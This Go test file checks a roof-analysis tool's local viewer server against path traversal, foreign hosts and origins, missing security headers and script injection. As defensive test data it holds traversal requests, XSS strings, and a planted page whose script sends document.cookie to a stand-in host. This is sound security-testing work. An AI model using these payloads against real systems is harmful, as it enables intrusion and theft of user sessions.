package viewer_test

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"runnel/cmd/viewer"
	"runnel/export"
	"runnel/export/model"
	"runnel/export/palette"
	"runnel/export/record"
	"runnel/export/sample"
	"runnel/export/staged"
)

// results writes all files of a small roof into a new folder, beside a file of its input, and returns the folder.
func results(t *testing.T) string {
	t.Helper()
	base := t.TempDir()
	put(t, filepath.Join(base, "roof.geojson"), "{}")
	dir := filepath.Join(base, "out")
	b := record.NewBook(sample.Study(sample.Local()), "", record.SI)
	b.Run = record.Run{Command: "check", Files: []string{"../roof.geojson"}}
	staged, err := export.Write(model.Of(b), export.Kinds(), staged.Target{Dir: dir}, export.Options{Stem: "shed"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := staged.Commit(); err != nil {
		t.Fatal(err)
	}
	return dir
}

func put(t *testing.T, path, text string) {
	t.Helper()
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
}

// open opens a folder and serves it to who asks for the server's own address.
func open(t *testing.T, dir string) *httptest.Server {
	t.Helper()
	return openOf(t, dir, func(string, []byte) bool { return true })
}

// openOf serves a folder of which wrote tells the pages that this program wrote.
func openOf(t *testing.T, dir string, wrote func(string, []byte) bool) *httptest.Server {
	t.Helper()
	f, err := viewer.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = f.Close() })
	var host string
	server := httptest.NewServer(f.Handler(viewer.Guard{Known: func(h string) bool { return h == host }, Wrote: wrote}))
	t.Cleanup(server.Close)
	host = server.Listener.Addr().String()
	return server
}

// ask sends a request as it is written, which the library's client would clean first, and returns the answer.
func ask(t *testing.T, server *httptest.Server, method, target, headers string) (*http.Response, string) {
	t.Helper()
	c, err := net.Dial("tcp", server.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = c.Close() }()
	if !strings.Contains(headers, "Host:") {
		headers += "Host: " + server.Listener.Addr().String() + "\r\n"
	}
	if _, err := fmt.Fprintf(c, "%s %s HTTP/1.1\r\n%sConnection: close\r\n\r\n", method, target, headers); err != nil {
		t.Fatal(err)
	}
	r, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: method})
	if err != nil {
		t.Fatal(err)
	}
	body, err := io.ReadAll(r.Body)
	if err != nil {
		t.Fatal(err)
	}
	return r, string(body)
}

func TestServesOnlyResults(t *testing.T) {
	dir := results(t)
	const secret = "keep this to yourself"
	outside := filepath.Join(filepath.Dir(dir), "secret.txt")
	put(t, outside, secret)
	put(t, filepath.Join(dir, "secret.txt"), secret)
	put(t, filepath.Join(dir, "other.report.html"), secret)
	put(t, filepath.Join(dir, "shed.report.html~"), secret)
	put(t, filepath.Join(dir, "package.json"), `{"schema":"`+secret+`"}`)
	for name, target := range map[string]string{"shed.plan.svg": outside, "shed.plan.pdf": "secret.txt"} {
		if err := os.Remove(filepath.Join(dir, name)); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(target, filepath.Join(dir, name)); err != nil {
			t.Fatal(err)
		}
	}
	server := open(t, dir)
	// A link that takes the place of a listed file must not be followed either.
	if err := os.Remove(filepath.Join(dir, "shed.setout.csv")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(outside, filepath.Join(dir, "shed.setout.csv")); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"shed.report.html", "shed.json", "shed.local.geojson", "shed.schedule.xlsx", "shed.setout.pdf"} {
		want, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		if r, body := ask(t, server, "GET", "/file/"+name, ""); r.StatusCode != http.StatusOK || body != string(want) {
			t.Errorf("%s: %s, %d bytes of %d", name, r.Status, len(body), len(want))
		}
	}
	for _, target := range []string{
		"/file/secret.txt", "/file/other.report.html", "/file/shed.report.html~", "/file/package.json", "/file/", "/file", "/file/.",
		"/file/../secret.txt", "/file/..%2fsecret.txt", "/file/%2e%2e/secret.txt", "/file/%2e%2e%2fsecret.txt", "/file/..\\secret.txt",
		"/../secret.txt", "//secret.txt", "/file//secret.txt", "/file/" + outside, "/file/shed.plan.svg", "/file/shed.plan.pdf",
		"/file/shed.setout.csv", "/file/shed.json%00.txt", "/file/shed.json/", "/file/./shed.json",
		"/thumb/secret.svg", "/thumb/.svg", "/thumb/../secret.svg", "/thumb/shed", "/thumb/shed.json",
		"/show/secret.txt", "/show/shed.json", "/show/other.report.html", "/page/index.html", "/page/", "/page/../folder.go", "/favicon.ico",
	} {
		r, body := ask(t, server, "GET", target, "")
		if r.StatusCode != http.StatusNotFound && r.StatusCode != http.StatusBadRequest {
			t.Errorf("%s: %s", target, r.Status)
		}
		if strings.Contains(body, secret) {
			t.Errorf("%s gives the secret away", target)
		}
	}
	if _, body := ask(t, server, "GET", "/", ""); strings.Contains(body, "secret") || strings.Contains(body, "package.json") {
		t.Error("the list names a file that is no result")
	}
}

func TestRefusesOthers(t *testing.T) {
	server := open(t, results(t))
	own := server.Listener.Addr().String()
	_, port, err := net.SplitHostPort(own)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		method, target, headers string
		want                    int
	}{
		{"GET", "/", "", 200},
		{"HEAD", "/", "", 200},
		{"HEAD", "/file/shed.json", "", 200},
		{"GET", "/state", "Host: " + own + "\r\nOrigin: http://" + own + "\r\n", 200},
		{"GET", "/", "Host: roofs.invalid\r\n", 403},
		{"GET", "/", "Host: roofs.invalid:" + port + "\r\n", 403},
		{"GET", "/file/shed.json", "Host: roofs.invalid:" + port + "\r\n", 403},
		{"GET", "/", "Host: 127.0.0.1:1\r\n", 403},
		{"GET", "/", "Host: \r\n", 403},
		{"GET", "http://roofs.invalid/", "", 403}, // the host of the request line wins over the header
		{"GET", "/state", "Host: " + own + "\r\nOrigin: http://roofs.invalid\r\n", 403},
		{"GET", "/state", "Host: " + own + "\r\nOrigin: null\r\n", 403},
		{"GET", "/state", "Host: " + own + "\r\nOrigin: https://" + own + "\r\n", 403},
		{"POST", "/", "", 405},
		{"PUT", "/file/shed.json", "", 405},
		{"DELETE", "/file/shed.json", "", 405},
		{"OPTIONS", "/", "", 405},
	} {
		if r, body := ask(t, server, c.method, c.target, c.headers); r.StatusCode != c.want {
			t.Errorf("%s %s %q: %s, want %d: %s", c.method, c.target, c.headers, r.Status, c.want, body)
		}
	}
}

func TestHeaders(t *testing.T) {
	server := open(t, results(t))
	for target, wants := range map[string]map[string]string{
		"/": {
			"Content-Type": "text/html; charset=utf-8", "X-Frame-Options": "DENY",
			"Content-Security-Policy": "default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; frame-src 'self'; img-src 'self' data:; base-uri 'none'; form-action 'none'; frame-ancestors 'none'",
		},
		"/show/shed.report.html": {"X-Frame-Options": "DENY"},
		"/file/shed.report.html": {"Content-Type": "text/html; charset=utf-8", "X-Frame-Options": "SAMEORIGIN"},
		"/file/shed.plan.svg": {
			"Content-Type":            "image/svg+xml",
			"Content-Security-Policy": "default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'; frame-ancestors 'self'",
		},
		"/file/shed.plan.pdf": {"Content-Type": "application/pdf"},
		"/file/shed.json": {
			"X-Frame-Options":         "DENY",
			"Content-Security-Policy": "sandbox; default-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'",
		},
		"/state":        {"Content-Type": "application/json"},
		"/page/view.js": {"Content-Type": "text/javascript; charset=utf-8"},
		"/nothing":      {"X-Frame-Options": "DENY"},
	} {
		r, _ := ask(t, server, "GET", target, "")
		for _, all := range [][2]string{
			{"X-Content-Type-Options", "nosniff"}, {"Referrer-Policy", "no-referrer"}, {"Cross-Origin-Resource-Policy", "same-origin"}, {"Cache-Control", "no-store"},
		} {
			if r.Header.Get(all[0]) != all[1] {
				t.Errorf("%s: %s is %q", target, all[0], r.Header.Get(all[0]))
			}
		}
		for name, want := range wants {
			if got := r.Header.Get(name); got != want {
				t.Errorf("%s: %s is %q, want %q", target, name, got, want)
			}
		}
		policy := r.Header.Get("Content-Security-Policy")
		for _, directive := range []string{"default-src 'none'", "frame-ancestors ", "base-uri 'none'", "form-action 'none'"} {
			if !strings.Contains(policy, directive) {
				t.Errorf("%s: the policy %q has no %s", target, policy, directive)
			}
		}
	}
}

// What the report may do is what it states itself, by the hashes of its own scripts, and nothing from or to elsewhere.
func TestPolicyOfTheReport(t *testing.T) {
	r, _ := ask(t, open(t, results(t)), "GET", "/file/shed.report.html", "")
	policy := map[string]string{}
	for directive := range strings.SplitSeq(r.Header.Get("Content-Security-Policy"), ";") {
		name, values, _ := strings.Cut(strings.TrimSpace(directive), " ")
		policy[name] = values
	}
	for name, want := range map[string]string{
		"default-src": "'none'", "img-src": "data:", "connect-src": "'none'", "frame-src": "'none'", "frame-ancestors": "'self'", "base-uri": "'none'", "form-action": "'none'",
	} {
		if policy[name] != want {
			t.Errorf("%s is %q, want %q", name, policy[name], want)
		}
	}
	for _, name := range []string{"script-src", "style-src"} {
		for source := range strings.FieldsSeq(policy[name]) {
			if !strings.HasPrefix(source, "'sha256-") {
				t.Errorf("%s allows %s", name, source)
			}
		}
		if policy[name] == "" {
			t.Errorf("%s is missing", name)
		}
	}
}

// A page that this program did not write, or that was changed since, is never opened by the browser: its script could
// send away what the server knows.
func TestPagesOfOthersAreDownloads(t *testing.T) {
	dir := results(t)
	before, err := os.ReadFile(filepath.Join(dir, "shed.plan.svg"))
	if err != nil {
		t.Fatal(err)
	}
	script := "<!DOCTYPE html><script>new Image().src='http://roofs.invalid/?'+document.cookie</script>"
	put(t, filepath.Join(dir, "shed.report.html"), script)
	server := openOf(t, dir, func(name string, content []byte) bool {
		return name == "shed.plan.svg" && string(content) == string(before)
	})
	for target, inline := range map[string]bool{"/file/shed.report.html": false, "/file/shed.report.pdf": false, "/file/shed.plan.svg": true, "/file/shed.plan.pdf": false} {
		r, body := ask(t, server, "GET", target, "")
		policy := r.Header.Get("Content-Security-Policy")
		if r.StatusCode != http.StatusOK || body == "" {
			t.Errorf("%s: %s", target, r.Status)
		}
		if download := r.Header.Get("Content-Disposition") == "attachment"; download == inline {
			t.Errorf("%s: a download: %v", target, download)
		}
		if sandbox := strings.HasPrefix(policy, "sandbox; default-src 'none'"); sandbox == inline {
			t.Errorf("%s: policy %s", target, policy)
		}
	}
	if _, body := ask(t, server, "GET", "/show/shed.report.html", ""); strings.Contains(body, "<iframe") || !strings.Contains(body, "did not write this report") {
		t.Errorf("it is framed:\n%s", body)
	}
	if _, body := ask(t, server, "GET", "/show/shed.plan.svg", ""); !strings.Contains(body, `<img src="/file/shed.plan.svg"`) {
		t.Errorf("its own plan is not shown:\n%s", body)
	}
	put(t, filepath.Join(dir, "shed.plan.svg"), string(before)+"<!-- changed -->")
	if r, _ := ask(t, server, "GET", "/file/shed.plan.svg", ""); r.Header.Get("Content-Disposition") != "attachment" {
		t.Error("a changed plan is shown")
	}
}

// A thumb-nail shows the roof's outline, ponds and outlets, in the proportions of the roof: the sample is 20 m by 12 m. Nothing else of the file
// reaches it.
func TestThumbs(t *testing.T) {
	dir := results(t)
	server := open(t, dir)
	r, body := ask(t, server, "GET", "/thumb/shed.svg", "")
	if r.StatusCode != http.StatusOK || r.Header.Get("Content-Type") != "image/svg+xml" || !strings.Contains(r.Header.Get("Content-Security-Policy"), "default-src 'none'") {
		t.Fatalf("%s, %v", r.Status, r.Header)
	}
	var x0, y0, x1, y1 float64
	if _, outline, ok := strings.Cut(body, `<path d="M`); !ok {
		t.Fatal("no outline")
	} else if _, err := fmt.Sscanf(outline, "%f %fL%f %fL%f %f", &x0, &y0, &x1, &y1, new(float64), new(float64)); err != nil {
		t.Fatal(err)
	}
	if wide := x1 - x0 + y0 - y1; wide < 187 || wide > 189 { // 200 less two margins of 6, along the long side
		t.Errorf("a side of 20 m is drawn %v wide", wide)
	}
	for colour, what := range map[string]string{palette.Water: "pond", palette.Primary: "outlet"} {
		if !strings.Contains(body, colour) {
			t.Errorf("no %s", what)
		}
	}
	put(t, filepath.Join(dir, "shed.local.geojson"), `{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"layer":"outline","id":"<script>alert(1)</script>","name":"\"><image href=x>"},`+
		`"geometry":{"type":"Polygon","coordinates":[[[0,0],[1,0],[1,1],[0,0]]]}}]}`)
	if _, body := ask(t, server, "GET", "/thumb/shed.svg", ""); strings.Contains(body, "alert") || strings.Contains(body, "image") || !strings.Contains(body, "<path") {
		t.Errorf("thumb-nail %s", body)
	}
}

// The list gives each roof's name as a link to its report, the worst finding, the depth and the weight.
func TestListSaysTheWorst(t *testing.T) {
	dir := results(t)
	put(t, filepath.Join(dir, "shed.json"), `{"schema":"runnel-summary-1","units":"us","roof":{"id":"X","name":"Shed"},"run":{"command":"check","files":["../roof.geojson"]},`+
		`"worst":{"finding":"X.N02","rank":3},"ponds":[{"depth_in":1.5,"weight_lb":100},{"depth_in_5":1,"depth_in_95":2.25,"volume_gal_95":12}],`+
		`"findings":[{"id":"X.N01","severity":"note","what":"Small."},{"id":"X.N02","severity":"repair","what":"The drain stands high."}]}`)
	_, body := ask(t, open(t, dir), "GET", "/", "")
	// Twelve gallons are 45.4 litres, 100.1 lb; both ponds 200.1 lb.
	for _, want := range []string{`<a href="/show/shed.report.html">Shed</a>`, "The drain stands high.", "up to 2-1/4&#34;", "200 lb", "1 to repair, 1 note", `src="/thumb/shed.svg?`} {
		if !strings.Contains(body, want) {
			t.Errorf("no %q in the list:\n%s", want, body)
		}
	}
}

// The list counts only the findings that there are, and says so where there are none.
func TestListCountsFindings(t *testing.T) {
	dir := results(t)
	for _, c := range []struct {
		severities []string
		want       string
	}{
		{nil, "<span>none</span>"},
		{[]string{"urgent"}, "<span><strong>1 urgent</strong></span>"},
		{[]string{"urgent", "note", "note"}, "<span><strong>1 urgent</strong>, 2 notes</span>"},
		{[]string{"repair", "repair"}, "<span>2 to repair</span>"},
	} {
		var findings []string
		for i, s := range c.severities {
			findings = append(findings, fmt.Sprintf(`{"id":"X.N%02d","severity":%q,"what":"What."}`, i+1, s))
		}
		put(t, filepath.Join(dir, "shed.json"), `{"schema":"runnel-summary-1","units":"us","roof":{"id":"X","name":"Shed"},"run":{"command":"check","files":["../roof.geojson"]},"ponds":[],"findings":[`+strings.Join(findings, ",")+`]}`)
		if _, body := ask(t, open(t, dir), "GET", "/", ""); !strings.Contains(body, c.want) {
			t.Errorf("%v: no %q in the list:\n%s", c.severities, c.want, body)
		}
	}
}

// Names come from the input; they must stay text in the pages.
func TestNamesStayText(t *testing.T) {
	dir := results(t)
	put(t, filepath.Join(dir, "shed.json"), `{"schema":"runnel-summary-1","roof":{"id":"X","name":"<script>alert(1)</script>","building":"\"><img src=x onerror=alert(1)>"},`+
		`"run":{"command":"check","files":["../roof.geojson"]},"ponds":[],"findings":[]}`)
	server := open(t, dir)
	for _, target := range []string{"/", "/show/shed.report.html"} {
		_, body := ask(t, server, "GET", target, "")
		if strings.Contains(body, "<script>") || strings.Contains(body, "<img src=x") || !strings.Contains(body, "&lt;script&gt;") {
			t.Errorf("%s:\n%s", target, body)
		}
	}
}

func TestFoldersWithoutResults(t *testing.T) {
	dir := t.TempDir()
	put(t, filepath.Join(dir, "a.json"), `{"schema":"another"}`)
	put(t, filepath.Join(dir, "b.json"), `not JSON`)
	for path, want := range map[string]string{
		filepath.Join(dir, "none"):   "there is no such folder",
		filepath.Join(dir, "a.json"): "this is a file",
		dir:                          "no summary of a roof in it; write one with: runnel check",
	} {
		if _, err := viewer.Open(path); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v", path, err)
		}
	}
}
